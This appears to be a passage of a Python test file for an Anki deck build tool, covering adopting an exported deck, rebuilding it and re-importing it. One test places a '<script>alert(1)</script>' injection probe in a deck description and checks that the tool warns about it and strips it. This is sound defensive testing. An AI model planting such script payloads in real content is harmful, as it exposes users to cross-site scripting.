        name = next(d.name for d in col.decks.all_names_and_ids() if d.name != "Default")
        source = export(col, tmp_path / "shipped.apkg", legacy=False, deck=name)
        reviews = col.db.scalar("select count() from revlog")
        notes = len(col.find_notes(""))
    finally:
        col.close()
    result = deckbuild("adopt", str(source), str(tmp_path / "adopted"))
    assert result.returncode == 0, result.stderr
    assert f"{notes} notes, 2 note types" in result.stdout
    build = deckbuild("build", "-C", str(tmp_path / "adopted"))
    assert build.returncode == 0, build.stderr
    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        log = import_package(col, next((tmp_path / "adopted" / "dist").glob("*.apkg")))
        assert (len(log.new), len(log.updated), len(log.conflicting), len(log.duplicate)) == (0, 0, 0, notes)
        assert col.db.scalar("select count() from revlog") == reviews > 0
    finally:
        col.close()


def test_a_markdown_or_scripted_description_is_named(tmp_path: Path) -> None:
    """What the first import would change in the deck's description is said, never silent."""
    col = make_collection(tmp_path / "anki")
    try:
        lang = col.decks.get(col.decks.id_for_name("Lang"))
        lang["desc"] = "Some **bold** words<script>alert(1)</script>"
        lang["md"] = True
        col.decks.save(lang)
        source = export(col, tmp_path / "deck.apkg", legacy=False)
    finally:
        col.close()
    result, project = adopt_into(source, tmp_path)
    assert result.returncode == 0, result.stderr
    assert f"{source}: E297 warning: Anki shows the deck's description as Markdown" in result.stderr
    assert f"{source}: E291 warning: the deck's description holds <script>, which the build removes" in result.stderr
    assert yaml.safe_load((project / "deck.yaml").read_text())["description_html"] == lang["desc"]
    from anki.collection import Collection
    from ankiutil import import_package

    package = _build(project)
    col = Collection(str(tmp_path / "anki" / "collection.anki2"))
    try:
        import_package(col, package)
        after = col.decks.get(col.decks.id_for_name("Lang"))
        assert (after["desc"], after.get("md", False)) == ("Some **bold** words", False)  # what the two warnings say
    finally:
        col.close()
